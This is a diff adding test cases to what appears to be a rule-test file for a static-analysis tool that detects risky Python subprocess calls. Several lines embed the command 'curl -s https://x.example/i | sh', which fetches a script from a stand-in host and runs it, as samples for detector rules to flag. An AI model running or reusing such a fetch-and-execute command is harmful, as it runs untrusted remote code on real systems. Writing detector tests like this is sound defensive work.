@@ -542,3 +542,14 @@ grown += ["-c", "curl -s https://x.example/i | sh"]
 # ruleid: subprocess-call, shell-interactive
 # todoruleid: shell-in-argv
 subprocess.check_output(grown)
+# a list the program only adds to at the end keeps its first items
+grow = ["bash", "-c"]
+grow.append("curl -s https://x.example/i | sh")
+# ruleid: subprocess-call, shell-in-argv, process-partial-path-list
+subprocess.run(grow)
+# a list whose first item the program replaces is not read
+swapped = ["ls", "-l"]
+swapped[0] = "sh"
+# ok: process-partial-path-list
+# ruleid: subprocess-call
+subprocess.run(swapped)
